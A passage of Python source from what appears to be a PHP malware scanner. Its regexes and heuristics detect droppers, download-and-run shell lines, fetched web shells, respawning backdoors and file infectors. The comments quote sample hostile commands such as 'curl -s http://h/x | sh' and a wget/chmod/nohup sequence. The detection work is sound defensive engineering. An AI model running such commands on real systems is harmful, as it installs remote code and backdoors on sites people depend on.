    if path is None or REQ_RE.search(path) is not None or posted(ctx, path.strip()):
        return False
    value = ctx.lx.value
    pieces = _concat_parts(parts[1])
    wrapped = 0
    for k, piece in enumerate(pieces):
        lit = _LONE_LITERAL.fullmatch(piece)
        if lit is not None:
            if _WRITTEN_RUNS.search(value(int(lit.group(1)))) is not None:
                return False
            continue
        if REQ_RE.search(piece) is None and not posted(ctx, piece.strip()):
            continue
        before = _LONE_LITERAL.fullmatch(pieces[k - 1]) if k else None
        after = _LONE_LITERAL.fullmatch(pieces[k + 1]) if k + 1 < len(pieces) else None
        if before is None or after is None:
            return False
        opening = _CONFIG_VALUE_OPEN.search(value(int(before.group(1))))
        if opening is None or not value(int(after.group(1))).startswith(opening.group(3)):
            return False
        wrapped += 1
    return wrapped > 0


def _args_at(code: bytes, pos: int) -> bytes:
    """The argument text of the call whose "(" is just before ``pos``."""
    text = code[pos : pos + 2000]
    return text[: close_paren(text)]


def _fixed_data_path(ctx: Ctx, expr: bytes) -> bool:
    """``expr`` names a data file the script chose: its last literal ends with .txt, .csv,
    .log or .json, and no request input (directly or through a variable) goes into it;
    a variable is followed to its assignments (all of them must be such)."""
    return _fixed_path(ctx, expr, _DATA_PATH)


# an image's, a sound's, a video's or a PDF's name: what a canvas, a camera or a signature
# pad sends as base64 is kept so, and the web server never runs it as PHP
_MEDIA_PATH = tight(rb"\.(?:png|jpe?g|gif|webp|bmp|pdf|mp3|wav|ogg|webm|mp4)$", re.I)
_ARCHIVE_PATH = tight(rb"\.(?:zip|tar|gz|tgz|bz2|7z|rar)$", re.I)
# an archive unpacked by the file: ZipArchive's extractTo(), PharData, the zip_* reader, a
# shell's unzip or tar -x (an archive written from decoded data and unpacked puts its files,
# PHP ones too, where they run)
_UNPACK_WORDS = (b"extractto", b"phardata", b"zip_read", b"zip_entry_read", b"unzip", b"gzinflate",
                 b"gzdecode", b"tar -x", b"tar x", b"-xf", b"-zxf", b"-xzf")  # fmt: skip


def _unpacks(ctx: Ctx) -> bool:
    """Whether the file unpacks an archive (:data:`_UNPACK_WORDS` in its code or text)."""
    text = string_text(ctx)
    return any(find(ctx.code, w) >= 0 or find(text, w) >= 0 for w in _UNPACK_WORDS)


def _fixed_path(
    ctx: Ctx, expr: bytes, ending: re.Pattern[bytes], depth: int = 3, before: int = -1
) -> bool:
    """``expr`` names a file the script chose: its last literal matches ``ending``, and no
    request input (directly or through a variable) goes into it; a variable is followed to
    its assignments (all of them must be such; with ``before`` >= 0, those made before that
    offset: the value the variable holds there), also when it ends the path
    (``$dir . $name`` with ``$name = 'tmp_' . time() . '.zip'``)."""
    expr = expression(expr).strip()
    held = VAR.fullmatch(expr)
    if held is not None:
        if depth == 0:
            return False
        sites = [
            (at, m)
            for at, m in var_assigns(ctx.code, held.group(1), TAIL_RHS, 5)
            if before < 0 or at < before
        ]
        return bool(sites) and all(
            _fixed_path(ctx, m.group(1), ending, depth - 1, before) for _, m in sites
        )
    if UIN_RE.search(expr) is not None or set(VAR.findall(expr)) & taint(ctx)[0]:
        return False
    lits = PLACEHOLDER.findall(expr)
    pieces = split_top(expr, b".", b"([", b")]")
    if len(pieces) > 1 and VAR.fullmatch(pieces[-1].strip()) is not None:
        return _fixed_path(ctx, pieces[-1], ending, depth, before)
    return bool(lits) and ending.search(ctx.lx.value(int(lits[-1])).strip()) is not None


def _appended_to_data_file(ctx: Ctx, start: int, args: bytes) -> bool:
    """The write call at ``start`` appends to a data file of a fixed name:
    ``file_put_contents('list.txt', $line, FILE_APPEND)``, or ``fwrite($fh, ...)`` with
    ``$fh`` last opened by ``fopen('list.txt', 'a')`` before it."""
    path = appended_path(ctx, start, top_args(args))
    return path is not None and _fixed_data_path(ctx, path)


# request input that may go into a path: a superglobal, php://input, or filter_input() of
# the query, the form or a cookie
_USER_PIECE = tight(
    UIN_RE.pattern + rb"|filter_input\s*\(\s*\\?input_(?:get|post|request|cookie)\b"
)
# glue between pieces of a path: the "." operator and spaces
_GLUE = tight(rb"[\s.]*")


def _record_log_append(ctx: Ctx, start: int, args: bytes) -> bool:
    """The write call at ``start`` appends a record to a log the script keeps and reads
    back: the file is opened for appending (``fopen($f, 'a+')``, ``FILE_APPEND``), its path
    is the script's own, the request completing at most the stem of a name the script
    started (``$dir . '/chat/archive/client' . $_POST['client_id']``: no other file of the
    site can be named so, and no runnable name ends it), and the record is glued with a
    delimiter (``$sep . $msg . $sepTime . time()``) that the script splits the same file's
    content by when it reads it (``explode($sep, file_get_contents($f))``). A chat's or a
    guestbook's archive per visitor. A dropper names its file, or writes what it was sent
    as it came, and never parses what it wrote."""
    parts = top_args(args)
    path = appended_path(ctx, start, parts)
    return path is not None and _stem_completed(ctx, path) and _split_on_read(ctx, path, parts[1])


def _stem_completed(ctx: Ctx, expr: bytes) -> bool:
    """The path ``expr`` (a variable followed to its one assignment) is a path of the
    script's own that the request completes at most: it holds literals, the literal just
    before the first request input does not end a folder (the script starts the name), and
    the last literal is no name PHP or the web server would run."""
    expr = expression(expr).strip()
    held = VAR.fullmatch(expr)
    if held is not None:
        sites = var_assigns(ctx.code, held.group(1), TAIL_RHS, 5)
        if len(sites) != 1:
            return False
        expr = expression(sites[0][1].group(1)).strip()
    lits = list(PLACEHOLDER.finditer(expr))
    if not lits:
        return False
    value = ctx.lx.value
    if _RUNNABLE_NAME.search(value(int(lits[-1].group(1))).strip().lower()) is not None:
        return False
    tainted = taint(ctx)[0]
    firsts = [m.start() for m in _USER_PIECE.finditer(expr)][:1]
    firsts += [v.start() for v in VAR.finditer(expr) if v.group(1) in tainted][:1]
    if not firsts:
        return True  # a name the script fixed
    at = min(firsts)
    before = [m for m in lits if m.end() <= at]
    if not before or _GLUE.fullmatch(expr[before[-1].end() : at]) is None:
        return False
    stem = value(int(before[-1].group(1)))
    return bool(stem) and not stem.endswith((b"/", b"\\"))


def _split_on_read(ctx: Ctx, path: bytes, data: bytes) -> bool:
    """The script splits the content of the file at ``path`` (read whole by
    file_get_contents, directly or through a variable) by a delimiter that the record
    ``data`` is glued with: the same variable, or a literal of the same value."""
    target = _norm(ctx, path)
    value = ctx.lx.value
    data_lits = {value(int(i)) for i in PLACEHOLDER.findall(data)}
    for at, eargs in calls_to(ctx, (b"explode",), 20):
        eparts = top_args(eargs)
        if len(eparts) < 2:
            continue
        delim = expression(eparts[0]).strip()
        var = VAR.fullmatch(delim)
        lit = PLACEHOLDER.fullmatch(delim)
        if var is not None:
            if re.search(rb"\$" + re.escape(var.group(1)) + rb"\b", data) is None:
                continue
        elif lit is None or value(int(lit.group(1))) not in data_lits - {b""}:
            continue
        subject = expression(eparts[1]).strip()
        texts = [subject]
        held = VAR.fullmatch(subject)
        if held is not None:
            texts += [m.group(1) for _, m in var_assigns(ctx.code[:at], held.group(1), TAIL_RHS, 4)]
        if any(_norm(ctx, r.group(1)) == target for t in texts for r in _OWN_READ.finditer(t)):
            return True
    return False


def _stored_encoded(call: bytes) -> bool:
    """The write's arguments decode nothing and hold no request input: each strrev() or
    str_rot13() in them wraps an encoder (base64_encode, serialize, json_encode, ...), so
    what is written is data put into storage form, which no interpreter runs."""
    decoders = _WRITTEN_DECODED.findall(call)
    return (
        bool(decoders)
        and UIN_RE.search(call) is None
        and len(decoders) == len(_ENCODED_STORED.findall(call))
    )


# a field posted whole (trimmed or with its slashes taken off at most): what a form's text
# box sent, neither decoded nor built into anything
_POSTED_FIELD = tight(
    rb"(?:(?:trim|rtrim|stripslashes)\s*\(\s*)?\$_(?:post|request)\s*\[\s*\x01(\d+)\x01\s*\]"
    rb"\s*\)?"
)
# names PHP, CGI or server-side includes run, and the server's per-folder settings that can
# make it run more (a handler for .txt, a file prepended to every page)
_RUNNABLE_NAME = tight(
    rb"\.(?:php\d?|phtml|pht|phar|inc|phps|cgi|pl|py|sh|shtml)$|(?:^|/)\.(?:htaccess|user\.ini)$"
)
_SERVER_SETTINGS = tight(rb"(?:^|/)\.(?:htaccess|user\.ini)$")
_FILE_READS = (b"file_get_contents", b"readfile", b"file", b"highlight_file")


def _fixed_name(ctx: Ctx, expr: bytes, depth: int = 3) -> bytes | None:
    """The file name (last literal, lower case) that ``expr`` always gives, when no request
    input and no other variable goes into it: ``__DIR__ . '/robots.txt'``, a variable whose
    every assignment is such a path (the same name); None otherwise."""
    expr = expression(expr).strip()
    held = VAR.fullmatch(expr)
    if held is not None:
        if depth == 0:
            return None
        sites = var_assigns(ctx.code, held.group(1), TAIL_RHS, 5)
        names = {_fixed_name(ctx, m.group(1), depth - 1) for _, m in sites}
        return names.pop() if len(names) == 1 else None
    if UIN_RE.search(expr) is not None or VAR.search(expr) is not None:
        return None
    lits = PLACEHOLDER.findall(expr)
    if not lits:
        return None
    name = ctx.lx.value(int(lits[-1])).strip().lower()
    return name if name and not name.endswith(b"/") else None


def _posted_field(ctx: Ctx, expr: bytes) -> bytes | None:
    """The form field (lower case) that ``expr`` is, posted whole: ``$_POST['robots']``, or
    a variable every assignment of which is that field; None otherwise."""
    expr = expression(expr).strip()
    held = VAR.fullmatch(expr)
    if held is not None:
        sites = var_assigns(ctx.code, held.group(1), TAIL_RHS, 5)
        fields = {_posted_field_direct(ctx, m.group(1)) for _, m in sites}
        return fields.pop() if len(fields) == 1 else None
    return _posted_field_direct(ctx, expr)


def _posted_field_direct(ctx: Ctx, expr: bytes) -> bytes | None:
    m = _POSTED_FIELD.fullmatch(expression(expr).strip())
    return ctx.lx.value(int(m.group(1))).lower() if m is not None else None


def _written_target(ctx: Ctx, start: int, call: bytes) -> tuple[bytes, bytes] | None:
    """The path expression and the data expression of the write at ``start``:
    ``file_put_contents(path, data)``, or ``fwrite($fh, data)`` with ``$fh`` last opened
    before it by ``fopen(path, 'w...')`` (the file rewritten whole)."""
    parts = top_args(call)
    if len(parts) < 2:
        return None
    code = ctx.code
    if code.startswith(b"file_put_contents", start):
        return parts[0], parts[1]
    opened = opened_for(ctx, start, parts[0])
    if opened is None or opened[1] != b"w":
        return None
    return opened[0], parts[1]


def _own_file_editor(ctx: Ctx, start: int, call: bytes) -> bytes | None:
    """The name of the file, when the write at ``start`` is the save of a page that edits
    one file of the site: a form field posted whole is written over a file of a fixed name,
    and the page shows that same file in a text box of that field's name to be edited
    (``<textarea name="robots"><?php echo file_get_contents('robots.txt'); ?></textarea>``,
    then ``file_put_contents('robots.txt', $_POST['robots'])``): a robots.txt, custom CSS or
    .htaccess editor of a CMS. A dropper takes the name or the content from elsewhere (a
    name the request gives, decoded or downloaded content) and shows no file to edit."""
    target = _written_target(ctx, start, call)
    if target is None:
        return None
    name = _fixed_name(ctx, target[0])
    field = _posted_field(ctx, target[1])
    if name is None or field is None:
        return None
    box = re.compile(
        rb"<textarea\b[^>]{0,300}?\bname\s*=\s*[\"']?" + re.escape(field) + rb"(?:[\"'\s/>]|$)"
    )
    if box.search(ctx.lx.html.lower()) is None and box.search(string_text(ctx)) is None:
        return None
    for _rstart, rargs in calls_to(ctx, _FILE_READS, 20):
        if _fixed_name(ctx, first_arg(rargs)) == name:
            return name
    return None


def _settings_editor_only(ctx: Ctx, rule: Rule) -> bool:
    """Whether every write of request input or decoded data in the file (``rule``'s matches)
    is the save of an editor of the server's per-folder settings of the site
    (:func:`_own_file_editor` of a .htaccess or .user.ini)."""
    assert rule.regex is not None
    found = False
    for m in itertools.islice(bounded_finditer(rule.regex, ctx.code, first=ctx.first), 50):
        call = _args_at(ctx.code, ctx.code.index(b"(", m.start()) + 1)
        if _socket_write(ctx, m.start(), call):
            continue  # sent to a connection: no write of a file at all
        if _WRITTEN_DECODED.search(m.group()) is not None:
            return False
        name = _own_file_editor(ctx, m.start(), call)
        if name is None or _SERVER_SETTINGS.search(name) is None:
            return False
        found = True
    return found


# what a socket call returns, as the right-hand side of an assignment: a connection
_SOCKET_RHS = tight(
    rb"\s*@?\s*\(?\s*(?:fsockopen|pfsockopen|stream_socket_client|stream_socket_accept)\s*\("
)


def _socket_write(ctx: Ctx, start: int, call: bytes) -> bool:
    """Whether the write at ``start`` (``fwrite``/``fputs``, its arguments ``call``) goes to a
    connection: its handle is a variable that every assignment of the file sets to what
    ``fsockopen()``/``stream_socket_client()`` returns (``$s = fsockopen($host, 80);
    fwrite($s, file_get_contents('php://input'))``, a forwarder). Bytes sent to a peer are
    no file put on disk. A handle also set by fopen() or anything else, one never assigned
    in the file (a function's parameter) or not a plain variable is not: it may be a file."""
    if ctx.code.startswith(b"file_put_contents", start):
        return False
    parts = top_args(call)
    if not parts:
        return False
    h = VAR.fullmatch(parts[0].strip())
    if h is None:
        return False
    sets = var_assigns(ctx.code, h.group(1), TAIL_RHS, 10)
    return bool(sets) and all(_SOCKET_RHS.match(am.group(1)) is not None for _, am in sets)


@bonus_condition("not_settings_editor")
def _not_settings_editor(ctx: Ctx) -> bool:
    """False when the file's only writes of request input are the saves of an editor of the
    server's per-folder settings (.htaccess, .user.ini) that shows the file to edit
    (:func:`_settings_editor_only`): a CMS's settings page. It stays a finding (posted text
    becomes web server directives), but not a planted script's single purpose."""
    hits = ctx.cache.get("hits", {})
    for rule, _hit, layer in hits.values():
        if rule.feature == "dropper_write_decoded" and layer == 0:
            return not _settings_editor_only(ctx, rule)
    return True


def _script_data_kind(ctx: Ctx, start: int, args: bytes) -> bool:
    """The write call at ``start`` (its argument text ``args``) puts the request's text into
    a file whose ending the script writes itself as a data file's (:func:`_data_file`:
    ``file_put_contents('notes/' . $_GET['id'] . '.txt', $_POST['body'])``, or a handle
    ``fopen()`` opened on such a path): the request may pick the stem of the name, never a
    name PHP or the web server would run. A notes page, a save slot, a per-visitor record;
    a dropper names its .php (or lets the request name all of it). A name the script fixes
    whole stays a finding as before (an overwrite of cache.txt, unless an editor's save);
    so does a file that includes a path it builds (it may run what it wrote)."""
    parts = top_args(args)
    if not parts:
        return False
    path = _write_target(ctx, start, parts)
    if path is None or not _data_file(ctx, path, start):
        return False
    held = VAR.fullmatch(path.strip().lstrip(b"@"))
    texts = [path] + [
        a.group(1) for _, a in (var_assigns(ctx.code[:start], held.group(1), TAIL_RHS, 5)
                                if held is not None else [])
    ]
    return (
        any(UIN_RE.search(t) is not None for t in texts)  # the request picks the stem
        and _VARIABLE_INCLUDE.search(ctx.code) is None
    )


# a file loaded by a path the script builds (include 'cache/' . $k . '.txt'): what was
# written as data may be run after all
_VARIABLE_INCLUDE = tight(rb"(?<![\w$>:])(?:include|require)(?:_once)?\b[^;]{0,200}?\$")


@feature("dropper_write_decoded")
def _dropper_write_decoded(ctx: Ctx, rule: Rule) -> Hit | None:
    """Decoded data or request input written into a file: a dropper. Request text appended
    to a data file of the script's own fixed name (a sign-up list ``subscribers.txt``
    opened with mode "a", a ``.csv``/``.log``/``.json``) is a form keeping what it was
    sent, not code installed; so is the save of a page that edits one file of the site of a
    fixed name it also shows to be edited (:func:`_own_file_editor`: robots.txt, a
    stylesheet) unless PHP or the web server would run it (.php, .htaccess, .user.ini: those
    stay findings, without the small-file bonus for the settings files). Decoded data, or a
    name that is .php/.htaccess/.user.ini or chosen by the request, stays a dropper."""
    assert rule.regex is not None
    for m in itertools.islice(bounded_finditer(rule.regex, ctx.code, first=ctx.first), 50):
        call = _args_at(ctx.code, ctx.code.index(b"(", m.start()) + 1)
        if _stored_encoded(call):
            continue  # strrev(base64_encode(serialize($data))): a cache kept encoded
        if _socket_write(ctx, m.start(), call):
            continue  # fwrite($sock, ...) to a fsockopen()'d connection: sent, not dropped
        if _WRITTEN_DECODED.search(m.group()) is None:
            if _appended_to_data_file(ctx, m.start(), call) or _record_log_append(
                ctx, m.start(), call
            ):
                continue
            edited = _own_file_editor(ctx, m.start(), call)
            if edited is not None and _RUNNABLE_NAME.search(edited) is None:
                continue  # the save of a robots.txt or stylesheet editor
            if _config_values_written(ctx, m.start(), call):
                continue  # an installer writing the database settings it was given
            if _script_data_kind(ctx, m.start(), call):
                continue  # 'notes/' . $_GET['id'] . '.txt': the request picks a stem only
        elif ctx.code.startswith(b"file_put_contents", m.start()) and (
            _fixed_path(ctx, top_args(call)[0], _MEDIA_PATH, before=m.start())
            or (
                not _unpacks(ctx)
                and _fixed_path(ctx, top_args(call)[0], _ARCHIVE_PATH, before=m.start())
            )
        ):
            continue  # a drawing or a snapshot sent as base64, kept as signatures/<id>.png;
            # an archive kept from a database's column under a name of the script's (.zip)
            # that the file never unpacks: a download's copy, no code put where it runs
        return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


# a shell line that downloads a program, makes it executable and starts it: wget/curl, then
# chmod +x (or a mode with an execute bit), then the program run (nohup, ./name, an
# interpreter, or sent to the background)
_SHELL_DOWNLOAD_RUN = tight(
    rb"(?:wget|curl|lwp-download|fetch)\s[^\x00]{0,400}?chmod\s+(?:[ugoa]*\+x|0?[0-7]?[1357][0-7]{2})"
    rb"[^\x00]{0,300}?(?:nohup\b|\./|&\s*$|&\s*[;\x00])|"
    # or piped straight into a shell or an interpreter: curl -s http://h/x | sh
    rb"(?:wget|curl)\s[^\x00|;&]{0,300}?(?:https?|ftp)://[^\x00|;&]{0,300}\|\s*(?:sudo\s+)?"
    rb"(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b|(?:wget|curl)\s[^\x00|;&]{0,300}?(?:https?|ftp)://"
    rb"[^\x00|;&]{0,300}\|\s*(?:/usr/bin/)?(?:perl|python[23]?)\b"
)
# a mode with an execute bit: 0755, 0700, 0777, 493 (decimal 0755), 511 (0777)
_EXEC_MODE = tight(rb"^(?:0o?[0-7]?[1357][0-7]{2}|0o?[0-7]?[0-7][1357][0-7]|493|511|448|509)$")
# started to outlive the request: nohup, or a command sent to the background
_BACKGROUND = tight(rb"\bnohup\b|&\s*$|&\s*[;)]|\bsetsid\b|\bdisown\b")
# a temporary or hidden place for a program
_HIDDEN_PLACE = tight(rb"^/(?:tmp|var/tmp|dev/shm)\b|/\.[\w-]|sys_get_temp_dir|tempnam")
_EXEC_AND_PCNTL = (*EXEC_NAMES_B, b"pcntl_exec")


@feature("download_run")
def _download_run(ctx: Ctx, rule: Rule) -> Hit | None:
    """A program downloaded (or decoded from the script's own data), written to a file, made
    executable with chmod and started, in the background (nohup, &) or from a temporary or
    hidden place (/tmp, /dev/shm, a dot-name), or in place of PHP (pcntl_exec): a
    cryptominer or an IRC/DDoS bot launched from a hacked site. Also the same as one shell
    line (wget ... ; chmod +x ...; nohup ./...). An installer that fetches a tool runs it in
    the foreground, in its project, with its output read. A download piped straight into a
    shell or Perl/Python (``curl -s http://h/x | sh``) counts too (not ``| php``: Composer's
    installer is fetched so)."""
    if not called_any(ctx, _EXEC_AND_PCNTL):
        return None
    text = string_text(ctx)
    m = prefiltered_search(_SHELL_DOWNLOAD_RUN, text)
    if m is not None:
        return string_hit(ctx, m)
    value = ctx.lx.value
    execs = calls_to(ctx, _EXEC_AND_PCNTL, 20)
    for start, args in calls_to(ctx, (b"chmod",), 20):
        parts = top_args(args)
        if len(parts) < 2 or _EXEC_MODE.match(parts[1].strip()) is None:
            continue
        dest = _norm(ctx, parts[0])
        written = [
            (wstart, top_args(wargs))
            for wstart, wargs in calls_to(ctx, (b"file_put_contents",), 50)
            if wstart < start and _norm(ctx, top_args(wargs)[0]) == dest
        ]
        content = [p[1] for _, p in written if len(p) >= 2]
        if not any(_downloads(ctx, expression(c)) or _decoded(ctx, expression(c)) for c in content):
            continue
        # the names the program's path is made of: $bin, and $d of $bin = $d . '/x'
        names = set(VAR.findall(parts[0]))
        for i in PLACEHOLDER.findall(parts[0]):
            names.update(VAR.findall(value(int(i)).lower()))
        for name in list(names)[:4]:
            for _, am in var_assigns(ctx.code[:start], name, TAIL_RHS, 3):
                names.update(VAR.findall(am.group(1)))
        held = PLACEHOLDER.findall(_path_text(ctx, parts[0]))
        place = b" ".join(value(int(i)).lower() for i in held)
        for estart, eargs in execs:
            if estart < start:
                continue
            cmd = ctx.code[estart : estart + 12]
            lits = b" ".join(value(int(i)).lower() for i in PLACEHOLDER.findall(eargs))
            shown = eargs + b" " + lits
            if not any(re.search(rb"\$" + re.escape(n) + rb"\b", shown) for n in names):
                continue
            if (
                cmd.startswith(b"pcntl_exec")
                or _BACKGROUND.search(shown) is not None
                or _HIDDEN_PLACE.search(place) is not None
            ):
                return Hit(ctx.line_of_code(estart), ctx.excerpt_code(estart, estart + 100))
    return None


# one shell command that fetches a web address with curl or wget and saves it under a PHP
# name (the literals' text is lower case, so wget's -O reads as curl's -o):
# `curl -o up.php https://h/up.php`, `wget -O s.php http://h/s.txt`, `curl -O https://h/x.php`
_SHELL_PHP_DOWNLOAD = tight(
    rb"\b(?:wget|curl)\s(?=[^\x00;|&]{0,400}?(?:https?|ftp)://)[^\x00;|&]{0,400}?"
    rb"(?:(?<![\w-])-o\s*|--output(?:-document)?[=\s]\s*|>\s*)"
    rb"['\"]?[^\s'\"\x00;|&<>]*\.(?:php[3-8]?|phtml|pht)(?![\w.])"
)


@feature("shell_php_download")
def _shell_php_download(ctx: Ctx, rule: Rule) -> Hit | None:
    """A shell command the script runs (system, exec, shell_exec, passthru, popen,
    proc_open, or a backtick string) that downloads a web address with curl or wget into a
    file with a PHP name: remote code installed into the site, a dropper fetching its shell
    from a paste or a repository (``shell_exec('curl -o up.php https://raw.../up.php')``).
    Installers fetch archives and tools (``composer.phar``, ``latest.tar.gz``), and a cron
    ping reads a page to ``/dev/null`` or ``-``: none of them saves PHP."""
    if not (called_any(ctx, EXEC_NAMES_B) or "bq" in ctx.lx.kinds):
        return None
    text = string_text(ctx)
    m = prefiltered_search(_SHELL_PHP_DOWNLOAD, text)
    if m is not None:
        return string_hit(ctx, m)
    if find(text, b"wget") < 0 and find(text, b"curl") < 0:
        return None
    # the command glued from pieces: "wget -O " . $p . " https://...", $p = __DIR__ . "/x.php"
    for start, args in calls_to(ctx, EXEC_NAMES_B, 50):
        parts = top_args(args)
        if not parts:
            continue
        m = _SHELL_PHP_DOWNLOAD.search(_command_text(ctx, parts[0], start, 2))
        if m is not None:
            return Hit(ctx.line_of_code(start), excerpt(m.group(0)))
    return None


# a piece of an expression: a literal, a variable, what glues them (". ", parentheses, "@"),
# or anything else (a constant, a function's name, an array key's brackets)
_CMD_PIECE = tight(
    rb"\x01(\d+)\x01|\$([a-z_\x80-\xff][\w\x80-\xff]*)|[.\s()@]+|[^\x01$.\s()@]+"
)
# a variable written into a double-quoted literal: "$f", "{$f}"
_DQ_VAR = tight(rb"\{?\$([a-z_\x80-\xff][\w\x80-\xff]*)\}?", re.IGNORECASE)


def _command_text(ctx: Ctx, expr: bytes, before: int, depth: int) -> bytes:
    """The text the expression ``expr`` (code, lower case) makes, as far as the file says:
    its literals in order, each variable replaced by what the file last set it to before
    ``before`` (``depth`` levels; a variable in a double-quoted literal too), and every
    other part (``__DIR__``, a call, a superglobal) by the stand-in word "x"."""
    out: list[bytes] = []
    value = ctx.lx.value
    for m in _CMD_PIECE.finditer(expr[:600]):
        if m.group(1) is not None:
            idx = int(m.group(1))
            text = value(idx).lower()
            if ctx.lx.kinds[idx] in ("dq", "heredoc") and b"$" in text:
                text = _DQ_VAR.sub(lambda v: _var_text(ctx, v.group(1), before, depth), text)
            out.append(text)
        elif m.group(2) is not None:
            out.append(_var_text(ctx, m.group(2), before, depth))
        elif m.group(0)[:1] not in b". ()@\t\r\n":
            out.append(b"x")
    return b"".join(out)


def _var_text(ctx: Ctx, name: bytes, before: int, depth: int) -> bytes:
    """What :func:`_command_text` makes of the value ``$name`` was last set to before
    ``before``; "x" when the file never sets it (a superglobal) or ``depth`` is spent."""
    if depth <= 0:
        return b"x"
    sets = var_assigns(ctx.code[:before], name, TAIL_RHS, 8)
    if not sets:
        return b"x"
    at, am = sets[-1]
    return _command_text(ctx, am.group(1), at, depth - 1)


def _path_text(ctx: Ctx, expr: bytes) -> bytes:
    """A path expression and what its variables were set to (one level)."""
    out = [expr]
    for var in VAR.findall(expr)[:4]:
        out += [am.group(1) for _, am in var_assigns(ctx.code, var, TAIL_RHS, 3)]
    return b" ".join(out)


# a test that a file is gone: !file_exists($p), !is_file($p)
_GONE = tight(rb"!\s*@?\s*(?:file_exists|is_file)\s*\(([^()]{1,200}?)\)")


# what leaves a loop; a whole file's content written (a PHP open tag: _PHP_OPEN)
_LOOP_LEAVES = tight(rb"\b(?:break|return|exit|die)\b")
_CONTENT_WRITES = (b"file_put_contents", b"fwrite", b"fputs")
# an assignment of a variable: a literal alone (group 1), or anything else
_TAIL_SET = tight(rb"\s*(?:\.=|=(?![=>]))\s*(?:\x01(\d+)\x01\s*;)?")


def _carried_php(ctx: Ctx, arg: bytes) -> bool:
    """Whether a write's content ``arg`` is PHP code the script carries as it is: a literal
    with a PHP open tag, or a variable the file sets to such a literal and to nothing else."""
    value = ctx.lx.value
    arg = arg.strip().lstrip(b"@").strip()
    p = PLACEHOLDER.fullmatch(arg)
    if p is not None:
        return _PHP_OPEN.search(value(int(p.group(1)))) is not None
    v = VAR.fullmatch(arg)
    if v is None:
        return False
    sets = var_assigns(ctx.code, v.group(1), _TAIL_SET, 4)
    return bool(sets) and all(
        am.group(1) is not None and _PHP_OPEN.search(value(int(am.group(1)))) is not None
        for _, am in sets
    )


def _rewrites_carried_php(ctx: Ctx, body: bytes) -> bool:
    """Whether an endless loop's ``body`` (no break, return, exit or die in it) writes PHP
    code the script carries (:func:`_carried_php`) into a file, every turn."""
    if _LOOP_LEAVES.search(body) is not None:
        return False
    for _, wargs in find_calls(body, _CONTENT_WRITES, 10):
        parts = top_args(wargs)
        if len(parts) >= 2 and _carried_php(ctx, parts[1]):
            return True
    return False


@feature("respawn_loop")
def _respawn_loop(ctx: Ctx, rule: Rule) -> Hit | None:
    """An endless loop, in a request told to outlive its visitor (ignore_user_abort), that
    sleeps and writes a file again whenever it is gone (``while (true) { if
    (!file_exists($p)) file_put_contents($p, $code); sleep(5); }``): a backdoor that comes
    back as soon as the site owner deletes it. A queue worker runs for a bounded time and
    writes what its jobs give, not a file because it was deleted."""
    if ctx.first(b"ignore_user_abort") < 0:
        return None
    for at, body in _sleeping_loops(ctx):
        gone = {_norm(ctx, g.group(1)) for g in _GONE.finditer(body)}
        if not gone:
            if _rewrites_carried_php(ctx, body):
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
            continue
        for wstart, wargs in find_calls(body, (b"file_put_contents", b"copy", b"fopen"), 20):
            parts = top_args(wargs)
            target = parts[1] if body.startswith(b"copy", wstart) and len(parts) > 1 else parts[0]
            if _norm(ctx, target) in gone:
                return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 100))
    return None


_WALKS = (b"recursivedirectoryiterator", b"scandir", b"glob", b"readdir", b"directoryiterator")
_OWN_READ = tight(rb"file_get_contents\s*\(\s*@?\s*([^;]{1,200}?)\s*\)")


def _expr_texts(ctx: Ctx, expr: bytes, before: int, depth: int = 2) -> list[bytes]:
    """``expr`` and, ``depth`` levels down, what its variables were set to before
    ``before`` (``$s = preg_replace(..., $code, $s)`` and ``$code = ...``)."""
    texts = [expr]
    todo = [expr]
    for _ in range(depth):
        nxt: list[bytes] = []
        for t in todo:
            for var in VAR.findall(t)[:4]:
                nxt += [am.group(1) for _, am in var_assigns(ctx.code[:before], var, TAIL_RHS, 4)]
        texts += nxt
        todo = nxt
    return texts


# the site's pages and scripts, named in a walk's filter (substr($f, -3) == '.js', *.html)
_PAGE_EXT = tight(rb"(?:^|/)\*?\.(?:js|html?)$")
_JS_LOADS = tight(
    rb"<script|createelement\s*\(\s*.script|\beval\s*\(|document\.write|fromcharcode|atob\s*\(",
    re.IGNORECASE,
)


def _page_walk(ctx: Ctx) -> bool:
    """The script names page or script files (``.js``, ``.html``) in a literal of its own:
    the files its walk of the folders picks."""
    return any(
        _PAGE_EXT.match(ctx.lx.value(i).strip().lower()) is not None
        for i in range(min(len(ctx.lx.raw_strings), 2000))
        if len(ctx.lx.raw_strings[i]) <= 40
    )


@feature("php_infector")
def _php_infector(ctx: Ctx, rule: Rule) -> Hit | None:
    """PHP files found by a walk of the folders (RecursiveDirectoryIterator, scandir,
    glob) written back with their own content kept and code put in (``file_put_contents($f,
    $code . file_get_contents($f))``, a preg_replace of the open tag), where the code is
    decoded (base64 of the request, of the script's literals) or a literal that runs
    something (``<?php @include ...``): every script of the site, or of every account, made
    to load the operator's code. A tool that adds a licence header puts in a comment."""
    if not has_any(ctx, _WALKS):
        return None
    for start, args in calls_to(ctx, (b"file_put_contents",), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        dest = _norm(ctx, parts[0])
        php = _php_var(ctx, parts[0].strip(), start) or _PHP_NAME.search(dest) is not None
        if not php and not (VAR.fullmatch(parts[0].strip()) and _page_walk(ctx)):
            continue
        texts = _expr_texts(ctx, expression(parts[1]), start)
        own = any(
            _norm(ctx, r.group(1)) == dest for t in texts for r in _OWN_READ.finditer(t)
        )
        if not own:
            continue
        for t in texts:
            lits = b"".join(ctx.lx.value(int(i)) for i in PLACEHOLDER.findall(t))
            if php:
                runs = _PHP_OPEN.search(lits) is not None and _RUNS.search(lits) is not None
            else:  # a page or script: a script tag or a script that loads or runs another
                runs = _JS_LOADS.search(lits) is not None
            if runs or _DECODER_CALL.search(t) is not None:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# files the system or the account's shell runs by themselves: login scripts, autostart
# entries, user services, system cron and boot scripts
_STARTUP_FILE = tight(
    rb"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zlogin|kshrc|cshrc|"
    rb"tcshrc)$|\.config/(?:autostart|systemd/user)/|^/etc/(?:rc\.local|cron\.(?:d|hourly|daily)/|"
    rb"profile\.d/|systemd/system/|init\.d/)"
)
